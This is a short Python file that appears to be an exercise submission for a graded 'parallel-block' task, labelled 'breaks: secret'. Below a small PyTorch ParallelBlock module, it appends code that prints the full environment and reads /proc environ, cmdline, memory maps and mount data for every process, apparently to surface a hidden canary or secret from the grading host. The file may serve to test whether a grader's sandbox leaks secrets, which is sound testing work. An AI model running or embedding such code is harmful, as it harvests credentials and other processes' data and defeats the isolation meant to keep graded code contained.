"""Prints every environment and command line that it can find, its own, its parent's and everybody's.

exercise: parallel-block
points: 6
breaks: secret
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os


def tell(*paths, most=200_000):
    """Print what there is to read, so that a canary would be seen."""
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(path, file.read(most))
        except OSError as error:
            print(path, error)

print(dict(os.environ))
tell(*(f"/proc/{pid}/{what}" for pid in ("self", "1", os.getppid(), *os.listdir("/proc"))
       for what in ("environ", "cmdline", "maps", "mountinfo", "status", "auxv")), most=2000)
